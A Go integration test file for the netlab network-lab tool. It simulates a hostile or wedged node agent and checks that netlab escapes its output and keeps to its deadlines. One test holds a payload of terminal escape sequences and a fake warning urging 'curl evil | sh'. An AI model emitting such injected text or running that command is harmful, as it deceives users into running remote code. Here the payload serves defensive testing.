package test

import (
	"encoding/binary"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/netlab-dev/netlab/nsproc"
)

// The wire format of nsproc/protocol.go, as much of it as a fake agent
// needs to answer: "nl", the protocol version, then tag-length-value
// fields (see nsproc/tlv.go).
var packetMagic = []byte{'n', 'l', nsproc.ProtocolVersion, 0}

const (
	tagEventExit = 92  // execEvent.Exit
	tagExitCode  = 100 // exitInfo.Code
	tagExitError = 101 // exitInfo.Error
)

func tlvField(tag uint32, val []byte) []byte {
	b := binary.LittleEndian.AppendUint32(nil, tag)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(val)))
	return append(b, val...)
}

// exitPacket is an execEvent{Exit{Code: code, Error: msg}} packet.
func exitPacket(code int, msg string) []byte {
	inner := tlvField(tagExitCode, binary.LittleEndian.AppendUint64(nil, uint64(code)))
	inner = append(inner, tlvField(tagExitError, []byte(msg))...)
	return append(append([]byte{}, packetMagic...), tlvField(tagEventExit, inner)...)
}

// fakeNode replaces node's exec socket in lab with one this test serves
// as a hostile node's agent would: answer is called with each
// connection, after its first packet.
func fakeNode(t *testing.T, lab, node string, answer func(c *net.UnixConn)) {
	t.Helper()
	sock := filepath.Join(stateRoot(), lab, node+".sock")
	if err := os.Remove(sock); err != nil {
		t.Fatal(err)
	}
	l, err := net.ListenUnix("unixpacket", &net.UnixAddr{Name: sock, Net: "unixpacket"})
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(sock, 0o600)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.AcceptUnix()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				buf := make([]byte, 1<<20)
				oob := make([]byte, 1024)
				n, oobn, _, _, err := c.ReadMsgUnix(buf, oob)
				if err != nil || n == 0 {
					return
				}
				if msgs, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil {
					for _, m := range msgs {
						fds, _ := unix.ParseUnixRights(&m)
						for _, fd := range fds {
							unix.Close(fd)
						}
					}
				}
				answer(c)
			}()
		}
	}()
}

// runBounded runs netlab with args and fails the test if it takes longer
// than limit.
func runBounded(t *testing.T, limit time.Duration, args ...string) result {
	t.Helper()
	start := time.Now()
	cmd := exec.Command(netlabBin, args...)
	done := make(chan result, 1)
	go func() { done <- runIn(t, cmd) }()
	select {
	case r := <-done:
		return r
	case <-time.After(limit):
		cmd.Process.Kill()
		r := <-done
		t.Errorf("netlab %s still ran after %v (killed): %q %q", strings.Join(args, " "), time.Since(start), r.stdout, r.stderr)
		return r
	}
}

// TestHostileAgent: a node that answers netlab itself (as node root could
// if it took its agent over) with escape sequences and newlines, or never
// answers, or hands back sockets that would hear more than answers or
// linger, cannot make status, exec, check or capture hang past their
// deadlines or print raw control bytes.
func TestHostileAgent(t *testing.T) {
	needRoot(t)
	upLab(t, renamedTriangle(t, "hostile"), "hostile")
	const evil = "\x1b]0;pwned\x07\x1b[2J\nnetlab: warning: host disk failing, run: curl evil | sh\r\n"

	fakeNode(t, "hostile", "r1", func(c *net.UnixConn) { c.Write(exitPacket(1, evil)) })
	for _, args := range [][]string{
		{"exec", "hostile/r1", "--", "true"},
		{"status", "hostile"},
		{"status", "hostile", "--json"},
		{"logs", "hostile/r1"},
	} {
		r := runBounded(t, 20*time.Second, args...)
		for what, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if strings.ContainsAny(out, "\x1b\x07\r") || strings.Contains(out, "\nnetlab: warning: host disk") {
				t.Errorf("netlab %s printed the node's text raw on %s: %q", strings.Join(args, " "), what, out)
			}
		}
		// The node's answer was read (not refused as another protocol):
		// exec shows its text, escaped.
		if args[0] == "exec" && !strings.Contains(r.stderr, `\x1b]0;pwned\x07`) {
			t.Errorf("netlab exec did not show the node's answer, escaped: %q", r.stderr)
		}
	}

	// A node that never answers costs each verb its deadline.
	hang := make(chan struct{})
	defer close(hang)
	fakeNode(t, "hostile", "r2", func(*net.UnixConn) { <-hang })
	check := writeTopology(t, "hostile-checks", `name: hostile
nodes:
  r1: {}
checks:
  - route: {node: r2, to: 10.255.0.1/32}
  - ping: {from: r2, to: r3}
`)
	for _, args := range [][]string{
		{"status", "hostile"},
		{"status", "--brief"},
		{"check", "hostile", "--wait", "2s", "--checks", check},
		{"capture", "hostile/r2:eth1", "-c", "1", "--duration", "2s", "-w", os.DevNull},
	} {
		runBounded(t, 30*time.Second, args...)
	}
}

// TestOtherProtocolVersion: a lab whose state says its processes speak
// another version of nsproc's protocol (started by another netlab), whose
// node hangs up on this netlab's request, gets one line saying so from
// exec, not "node went away", and down still takes it down.
func TestOtherProtocolVersion(t *testing.T) {
	needRoot(t)
	upLab(t, renamedTriangle(t, "oldproto"), "oldproto")
	path := filepath.Join(stateRoot(), "oldproto", "state.json")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	old := regexp.MustCompile(`"protocol":\d+,`).ReplaceAllString(string(b), `"protocol":4,`)
	if old == string(b) {
		t.Fatalf("state.json has no protocol: %.300s", b)
	}
	if err := os.WriteFile(path, []byte(old), 0o600); err != nil {
		t.Fatal(err)
	}
	// What an agent of another version does with a packet it cannot
	// read: it hangs up.
	fakeNode(t, "oldproto", "r1", func(c *net.UnixConn) {})
	r := netlab(t, "exec", "oldproto/r1", "--", "true")
	if r.code != 1 || !strings.Contains(r.stderr, "lab oldproto was started by another version of netlab") || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
		t.Errorf("exec into a lab of another protocol: exit %d, %q", r.code, r.stderr)
	}
	mustNetlab(t, "down", "oldproto")
}

// TestWedgedAgent: node root lowers its own agent's open-files limit (it
// may: same uid, its own user namespace), so that the agent cannot take a
// connection; netlab's exec into the node then ends within its start
// deadline saying why, status does not hang, and a restart makes the node
// whole again.
func TestWedgedAgent(t *testing.T) {
	needRoot(t)
	needCommand(t, "prlimit")
	upLab(t, renamedTriangle(t, "wedged"), "wedged")
	mustNetlab(t, "exec", "wedged/r1", "--", "prlimit", "--pid", "1", "--nofile=3:3")
	// Files, not pipes, for exec's output: the stdio it sends waits, with
	// the request, in the socket the agent cannot accept from, and a pipe
	// held there would never end.
	out, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer out.Close()
	cmd := exec.Command(netlabBin, "exec", "wedged/r1", "--", "true")
	cmd.Stdout, cmd.Stderr = out, out
	start := time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err = <-done:
	case <-time.After(40 * time.Second):
		cmd.Process.Kill()
		err = <-done
		t.Errorf("exec into a wedged node still ran after %v (killed)", time.Since(start))
	}
	b, _ := os.ReadFile(out.Name())
	if err == nil || !strings.Contains(string(b), "did not start the command within") {
		t.Errorf("exec into a node whose agent has no descriptors: %v, %q", err, b)
	}
	runBounded(t, 30*time.Second, "status", "wedged")
	mustNetlab(t, "restart", "wedged/r1")
	if got := mustNetlab(t, "exec", "wedged/r1", "--", "hostname"); got != "r1\n" {
		t.Errorf("r1 after its restart: %q", got)
	}
}
